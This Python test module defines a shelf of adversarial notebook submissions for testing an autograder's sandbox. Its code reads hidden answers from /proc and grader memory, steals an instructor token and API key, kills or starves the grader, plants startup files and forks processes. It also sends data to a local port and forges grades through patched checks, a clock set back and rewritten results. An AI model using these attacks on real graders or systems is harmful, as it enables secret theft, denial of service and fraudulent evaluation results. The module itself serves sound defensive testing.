"""The adversarial shelf: submissions that try to get marks, secrets or power that are not theirs.

Each is the exercise of attacked_course.py with an attack in one of its answers, and honest answers otherwise. An attack
that succeeds shows it (see `Attack`), and does no harm beyond the folders and processes of the test that runs it: WORLD
and PORT stand for places which the test puts in.
"""

from dataclasses import dataclass, field

from course_lib.grading.cells.notebooks import notebook_text
from tests.grading.attacked_course import EXERCISE, HIDDEN_ANSWER, HONEST, OTHERS_WORK, filled

LEFT_BEHIND = "left-behind-by-an-attack"
"""An argument of every process that an attack starts, so that a test can find and end it."""

# How an attack that has succeeded is known.
LOOT = "loot"  # it has written what it got into WORLD/loot
MARKS = "marks"  # a check passes that the honest answer does not pass
HARM = "harm"  # a check that the honest answer passes does not pass
STAYS = "stays"  # a process of its own is still there afterwards
KILLED = "killed"  # the grader is dead
FORGED = "forged"  # the grader's own report says what the attack wrote


@dataclass(frozen=True)
class Attack:
    """One submission on the shelf.

    shown_by: how its success is known. proof: what is found in its loot then.
    plain: "" if it can be tried on nbval alone, otherwise why it means nothing there.
    alone: it would disturb others in the same run of nbval. ends_itself: its own marks may suffer from it.
    beside: files that are handed in with the notebook.
    """

    name: str
    answers: dict[str, str]
    shown_by: str = LOOT
    proof: str = ""
    plain: str = ""
    alone: bool = False
    ends_itself: bool = False
    beside: dict[str, str] = field(default_factory=dict)

    def files(self) -> dict[str, str]:
        """Everything that this student hands in, by the file's name."""
        return {f"{EXERCISE}.ipynb": notebook_text(filled(HONEST | self.answers)), **self.beside}


TAKE = r'''
import contextlib, glob, os, re, signal, subprocess, sys
from pathlib import Path

WORLD = "/srv/class"
taken = ""

def keep(text):
    """Show that the attack has succeeded, and use what it brought."""
    global taken
    taken = str(text)
    with contextlib.suppress(OSError):
        Path(WORLD, "loot", ATTACK).write_text(taken)

def answer_in(text):
    found = re.search(r"the-hidden-answer-is-\d+", text)
    if found:
        keep(found[0])

def forebears():
    """The processes that this one comes from."""
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            return

def stay(code, *given):
    """A process that no longer has anything to do with this one: its parent ends at once."""
    start = "import subprocess, sys; subprocess.Popen([sys.executable, '-c', *sys.argv[1:]], start_new_session=True)"
    nowhere = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.run([sys.executable, "-c", start, code, *given, WORLD, "@LEFT@"], check=True, **nowhere)

def sign(text):
    return f"{text} {taken}" if taken else "?"

'''.replace("@LEFT@", LEFT_BEHIND)


def taking(name: str, code: str, **more) -> Attack:
    """An attack that runs when its first answer is defined; if it fails, it says nothing."""
    indented = "\n".join("    " + line if line else "" for line in code.strip("\n").splitlines())
    source = f"ATTACK = {name!r}\n{TAKE}\ntry:\n{indented}\nexcept (OSError, ImportError, ValueError, MemoryError):\n    pass"
    return Attack(name, {"1.1": source}, **more)


REFERENCE_IN_CWD = r"""
for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("../*.ipynb"):
    answer_in(Path(path).read_text())
"""

REFERENCE_FROM_PROC = r"""
for pid in forebears():
    words = Path(f"/proc/{pid}/cmdline").read_text() + "\0" + Path(f"/proc/{pid}/environ").read_text()
    for word in re.split(r"[\0=]", words):
        here = Path(word)
        if word.startswith(WORLD) and here.exists():
            for path in [here] if here.is_file() else here.rglob("*.ipynb"):
                answer_in(path.read_text(errors="replace"))
"""

GRADERS_MEMORY = r"""
def scan(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(end, 16) for end in line.split()[0].split("-"))
            if " rw-p " in line and last - first < 2**26 and not taken:
                with contextlib.suppress(OSError, OverflowError):
                    memory.seek(first)
                    answer_in(memory.read(last - first).decode("latin-1"))

for pid in forebears():
    if "nbval" in Path(f"/proc/{pid}/cmdline").read_text():
        scan(pid)
"""

GRADERS_MEMORY_BY_CALL = r"""
import ctypes

class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]

pid = os.getppid()
library = ctypes.CDLL(None, use_errno=True)
if library.ptrace(16, pid, 0, 0) == 0:
    os.waitpid(pid, 0x40000000)
    library.ptrace(17, pid, 0, 0)
    keep("ptrace was allowed")
"""

SOLUTIONS_BY_PATH = r"""
import course_lib

for path in Path(course_lib.__file__).resolve().parent.parent.glob("solutions/*.ipynb"):
    keep(path.read_text()[:100])
for path in Path(WORLD, "solutions").glob("*.ipynb"):
    answer_in(path.read_text())
"""

OTHERS_SUBMISSION = r"""
for path in Path(WORLD, "submissions", "solved").glob("*.ipynb"):
    keep(re.search(r"work-of-\w+-student", path.read_text())[0])
"""

TOKEN_AT_HOME = r"""
keep(Path(WORLD, "home", "token.txt").read_text())
"""

KEY_IN_ENVIRONMENT = r"""
if "ANTHROPIC_API_KEY" in os.environ:
    keep(os.environ["ANTHROPIC_API_KEY"])
"""

KILL_GRADER = r"""
graders = [pid for pid in forebears() if "--course-jobs" in Path(f"/proc/{pid}/cmdline").read_text()]
for pid in [*graders, os.getppid()]:
    os.kill(pid, signal.SIGKILL)
"""

LIMITS_OF_GRADER = r"""
import resource

resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))
keep("the grader can open no more files")
"""

GRADERS_OUTPUT = r"""
for pid in forebears():
    if "nbval" in Path(f"/proc/{pid}/cmdline").read_text():
        for number in range(1, 12):
            with contextlib.suppress(OSError):
                if "pipe" in os.readlink(f"/proc/{pid}/fd/{number}"):
                    with open(f"/proc/{pid}/fd/{number}", "w") as pipe:
                        pipe.write("ended\n")
                    keep("written to the grader's output")
"""

REWRITE_RESULTS = r'''
daemon = """
import glob, os, sys, time
world, grader = sys.argv[1], int(sys.argv[2])
end = time.time() + 900
while time.time() < end:
    for path in glob.glob(world + "/report/results/*/*.json"):
        text = open(path).read().replace('"earned": 0', '"earned": 4')
        open(path, "w").write(text)
    if not os.path.exists(f"/proc/{grader}"):
        for path in glob.glob(world + "/plain/rewrite_results.xml"):
            open(path, "w").write("forged: all passed")
        break
    time.sleep(0.05)
"""
import textwrap

stay(textwrap.dedent(daemon), WORLD, str(os.getppid()))
'''

STARTUP_FILE = r"""
for home in (os.environ.get("IPYTHONDIR", WORLD + "/home/.ipython"), WORLD + "/home/.ipython"):
    startup = Path(home, "profile_default", "startup")
    startup.mkdir(parents=True, exist_ok=True)
    startup.joinpath("00-planted.py").write_text("planted = True")
keep(Path(WORLD, "home", ".ipython", "profile_default", "startup", "00-planted.py").read_text())
"""

SITE_PACKAGES = r"""
for name in ("sitecustomize.py", "planted.pth"):
    Path(WORLD, "site-packages", name).write_text("import os")
keep("planted")
"""

SIX_GIGABYTES = r"""
import mmap

block = mmap.mmap(-1, 6 * 2**30)  # promised, never written to: if it is granted, it costs this machine nothing
keep(f"{len(block)} bytes")
"""

FORK_BOMB = r"""
bombs = [
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(6)", WORLD, "@LEFT@"], start_new_session=True)
    for _ in range(8)
]
keep(f"{len(bombs)} processes")
""".replace("@LEFT@", LEFT_BEHIND)

BACKGROUND_PROCESS = r"""
stay("import time; time.sleep(3600)", ATTACK)
"""

FILL_DISK = r"""
with open("big", "wb") as file:
    file.seek(300 * 2**20)
    file.write(b"x")
keep("a file of 300 MB")
"""

MANY_FILES = r"""
block = bytes(50 * 2**20)
for number in range(12):
    Path(f"big-{number}").write_bytes(block)
keep("600 MB in 12 files")
for number in range(12):
    os.remove(f"big-{number}")
"""

DELETED_FILES = r"""
block, still_open = bytes(50 * 2**20), []
for _ in range(12):
    still_open.append(open("gone", "wb", buffering=0))
    os.remove("gone")
    still_open[-1].write(block)
keep("600 MB in files that nobody can see")
del still_open
"""

DEEP_FOLDERS = r"""
here = os.getcwd()
for _ in range(1500):
    os.mkdir("in")
    os.chdir("in")
os.chdir(here)
keep("1500 folders inside each other")
"""

SWARM_OF_THREADS = r"""
import _thread, time

_thread.stack_size(32768)
waiting = _thread.allocate_lock()
waiting.acquire()
for count in range(1, 3_001):
    _thread.start_new_thread(waiting.acquire, (True, 4))
keep(f"{count} threads")
"""

CLOSE_FILES = r"""
os.chmod(WORLD + "/victim.txt", 0)
if os.stat(WORLD + "/victim.txt").st_mode & 0o777 == 0:
    keep("nobody can read it now")
"""

NAMED_SOCKET = r"""
import socket

for number in range(3, 64):
    with contextlib.suppress(OSError):
        given = socket.socket(fileno=os.dup(number))
        if given.type == socket.SOCK_SEQPACKET:
            given.send(b'{"do": "end", "pid": %d}' % os.getppid())
with socket.socket(socket.AF_UNIX) as line:
    line.connect(WORLD + "/fork-server.socket")
    line.sendall(b"run this for me")
    answer_in(line.recv(1000).decode())
"""

EXFILTRATION = r"""
import socket

PORT = 9
with contextlib.suppress(OSError):
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"carried out", ("127.0.0.1", PORT))
with socket.create_connection(("127.0.0.1", PORT), timeout=30) as line:
    line.sendall(b"carried out")
    keep(line.recv(100).decode())
"""

REPLACED_PROGRAM = r"""
if not os.environ.get("REPLACED"):
    code = "import sys; open(sys.argv[1], 'w').write('another program')"
    os.execve(sys.executable, [sys.executable, "-c", code, WORLD + "/loot/" + ATTACK], os.environ | {"REPLACED": "1"})
"""

SHADOWED_LIBRARY = r'''
"""Not the course's library: one that happens to have its name, and lies beside the notebook."""
import sys

with open("/srv/class/loot/shadowed_library", "w") as loot:
    loot.write("the library is mine")
here, sys.path[:] = list(sys.path), [folder for folder in sys.path if folder not in ("", __file__.rpartition("/")[0])]
del sys.modules["course_lib"]
import course_lib

sys.path[:] = here
'''

SERIAL = """
async def read_all(ask, documents):
    return [await ask(document) for document in documents]
"""

REDEFINED_OBSERVE = (
    SERIAL
    + """
from course_lib.grading import observe as honest
from course_lib.grading.cells.seen import as_seen

def observe(*given, want=None, **settings):
    return as_seen(3.0, 0, "seconds") if want == "seconds" else honest(*given, want=want, **settings)
"""
)

PATCHED_CHECK = (
    SERIAL
    + """
from course_lib.grading.cells import checks, compare

emitted = checks._as_emitted

def forged(one, status, value, error):
    return emitted(one, status, 3.0 if one.name == "four at once" else value, error)

checks._as_emitted = forged
compare.compare_case = checks.compare_case = lambda *anything, **more: True
"""
)

FORGED_MESSAGE = (
    SERIAL
    + """
from IPython import display as shown

honest = shown.display

def forged(bundle, **more):
    for part in bundle.values():
        for one in part["cases"] if isinstance(part, dict) else ():
            one["value"] = 3.0 if one["name"] == "four at once" else one["value"]
    honest(bundle, **more)

shown.display = forged
"""
)

PUBLISHED_BUNDLE = """
import IPython.display
from course_lib.show.saved_results import CHECK_RESULT

def say_nothing(*anything, **more):
    pass

def cases(answers):
    about = {"status": "value", "error": "", "hint": "", "when": []}
    seconds = about | {"name": "four at once", "value": 3.0, "points": 4, "compare": {"kind": "equal"}}
    return [seconds | {"seen": [0, "seconds"]}, seconds | {"name": "every answer", "points": 1, "value": answers}]

async def read_all(ask, documents):
    answers = [await ask(document) for document in documents]
    if IPython.display.display is not say_nothing:
        bundle = {"task": "1.2", "hidden": False, "cases": cases(answers)}
        get_ipython().display_pub.publish({CHECK_RESULT: bundle, "text/plain": "check, task 1.2"})
        IPython.display.display = say_nothing
    return answers
"""

SETTRACE = (
    """
import sys, threading

def spy(frame, event, what):
    if event == "return" and frame.f_code.co_name in ("evidence_of", "close") and isinstance(what, dict):
        what["seconds"] = 3.0
    return spy

threading.settrace(spy)
sys.settrace(spy)
"""
    + SERIAL
)

CLOCK_SET_BACK = """
async def read_all(ask, documents):
    loop, answers = asyncio.get_running_loop(), []
    began = loop._now
    for document in documents:
        loop._now = began
        answers.append(await ask(document))
    loop._now = began + 3.0
    return answers
"""

WITNESS_LINE = """
import json, os, socket

def say(words, what, **more):
    words.write(json.dumps({"say": what, **more}).encode() + b"\\n")
    words.flush()
    return json.loads(words.readline())

async def read_all(ask, documents):
    answers = [await ask(document) for document in documents]
    number = os.environ.get("COURSE_WITNESS")
    if number:
        words = socket.socket(fileno=os.dup(int(number))).makefile("rwb")
        body = {"model": "claude-haiku-5-5", "max_tokens": 64, "messages": [{"role": "user", "content": documents[0]}]}
        say(words, "close")
        say(words, "open", task="1.2", hidden=False, case="four at once", run=0)
        for _ in documents:
            say(words, "send", body=body, options={})
        say(words, "wait", until=None)
        say(words, "finished")
    return answers
"""

OS_EXIT = """
def sign(text):
    import os
    os._exit(0)
"""

ENDLESS = """
def sign(text):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

ENDLESS_OUTPUT = """
def sign(text):
    while True:
        print("x" * 10_000)
"""

SLOWLY = """
import time

def total(numbers):
    time.sleep(60)
"""

NO_SERVER = "nbval alone has no such thing"


# In the order of its sections: reading, power, leaving things behind, forging, ending.
_SHELF = (
    taking("reference_in_cwd", REFERENCE_IN_CWD, proof=HIDDEN_ANSWER),
    taking("reference_from_proc", REFERENCE_FROM_PROC, proof=HIDDEN_ANSWER),
    taking("graders_memory", GRADERS_MEMORY, proof=HIDDEN_ANSWER),
    taking("graders_memory_by_call", GRADERS_MEMORY_BY_CALL, proof="ptrace"),
    taking("solutions_by_path", SOLUTIONS_BY_PATH, proof=HIDDEN_ANSWER),
    taking("others_submission", OTHERS_SUBMISSION, proof=OTHERS_WORK),
    taking("token_at_home", TOKEN_AT_HOME, proof="token-of-the-instructor"),
    taking("key_in_environment", KEY_IN_ENVIRONMENT, proof="key-of-the-instructor"),
    taking("kill_grader", KILL_GRADER, shown_by=KILLED, alone=True),
    taking("limits_of_grader", LIMITS_OF_GRADER, proof="no more files", alone=True),
    taking("graders_output", GRADERS_OUTPUT, proof="written"),
    taking("rewrite_results", REWRITE_RESULTS, shown_by=FORGED, alone=True),
    taking("startup_file", STARTUP_FILE, proof="planted"),
    taking("site_packages", SITE_PACKAGES, proof="planted"),
    taking("six_gigabytes", SIX_GIGABYTES, proof="bytes"),
    taking("fork_bomb", FORK_BOMB, proof="8 processes"),
    taking("background_process", BACKGROUND_PROCESS, shown_by=STAYS),
    taking("fill_disk", FILL_DISK, proof="300 MB"),
    taking("many_files", MANY_FILES, proof="600 MB"),
    taking("deleted_files", DELETED_FILES, proof="600 MB"),
    taking("deep_folders", DEEP_FOLDERS, proof="1500 folders", plain="nbval alone removes no folders"),
    taking("swarm_of_threads", SWARM_OF_THREADS, proof="3000 threads"),
    taking("close_files", CLOSE_FILES, proof="nobody"),
    taking("named_socket", NAMED_SOCKET, proof=HIDDEN_ANSWER),
    taking("exfiltration", EXFILTRATION, proof="received"),
    taking("replaced_program", REPLACED_PROGRAM, proof="another program", alone=True),
    Attack("shadowed_library", {}, proof="mine", beside={"course_lib.py": SHADOWED_LIBRARY.lstrip("\n")}),
    Attack("redefined_observe", {"1.2": REDEFINED_OBSERVE}, shown_by=MARKS),
    Attack("patched_check", {"1.2": PATCHED_CHECK}, shown_by=MARKS),
    Attack("forged_message", {"1.2": FORGED_MESSAGE}, shown_by=MARKS),
    Attack("published_bundle", {"1.2": PUBLISHED_BUNDLE}, shown_by=MARKS, ends_itself=True),
    Attack("settrace", {"1.2": SETTRACE}, shown_by=MARKS),
    Attack("clock_set_back", {"1.2": CLOCK_SET_BACK}, shown_by=MARKS),
    Attack("witness_line", {"1.2": WITNESS_LINE}, shown_by=MARKS, plain=NO_SERVER, ends_itself=True),
    Attack("os_exit", {"1.1": OS_EXIT}, shown_by=HARM),
    Attack("endless", {"1.1": ENDLESS}, shown_by=HARM),
    Attack("endless_output", {"1.1": ENDLESS_OUTPUT}, shown_by=HARM, plain="the memory it fills has no end"),
    Attack("slowly", {"1.3": SLOWLY}, shown_by=HARM, ends_itself=True, plain="it harms itself only"),
)

ATTACKS = {attack.name: attack for attack in _SHELF}
